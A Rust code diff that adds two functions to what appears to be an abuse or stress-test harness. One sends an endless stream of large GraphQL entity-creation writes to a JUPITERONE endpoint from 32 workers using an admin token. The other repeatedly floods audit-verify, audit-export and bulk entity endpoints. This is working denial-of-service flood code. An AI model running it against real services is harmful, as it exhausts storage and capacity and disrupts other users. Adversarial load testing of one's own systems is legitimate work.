@@ -256,3 +256,44 @@ pub(crate) async fn filters(field: Arc<Field>) -> anyhow::Result<()> {
     field.flood(8, ask).await;
     Ok(())
 }
+
+/// Writes of the attackers' own administrator, as many as are taken.
+pub(crate) async fn writes(field: Arc<Field>) -> anyhow::Result<()> {
+    const WRITE: &str = "mutation($key: String!, $p: JSON) { createEntity(entityKey: $key, \
+        entityType: \"siege_flood\", entityClass: [\"Record\"], properties: $p) { vertex { id } } }";
+    let token = field.arsenal.own.api_token().to_owned();
+    let text = "w".repeat(4_000);
+    field
+        .swarm(32, |field, number| {
+            let (token, text) = (token.clone(), text.clone());
+            async move {
+                for round in 0.. {
+                    let properties = json!({"displayName": text, "other": text});
+                    let variables = json!({"key": format!("w:{number}:{round}"), "p": properties});
+                    let body = json!({"query": WRITE, "variables": variables});
+                    let ask = Ask::post(JUPITERONE, body.to_string()).bearer(&token);
+                    let outcome = field.http(&ask).await?;
+                    field.note(&outcome);
+                }
+                Ok(())
+            }
+        })
+        .await;
+    Ok(())
+}
+
+/// The journal verified and exported whole, again and again.
+pub(crate) async fn audits(field: Arc<Field>) -> anyhow::Result<()> {
+    let token = field.arsenal.own.api_token().to_owned();
+    let paths = [
+        "/audit/verify",
+        "/audit/export?from=1&limit=1000",
+        "/entities?limit=1000",
+    ];
+    let ask = |number: usize| {
+        let path = paths.get(number % paths.len()).copied().unwrap_or("/");
+        Ask::post(path, "").method("GET").bearer(&token)
+    };
+    field.flood(24, ask).await;
+    Ok(())
+}
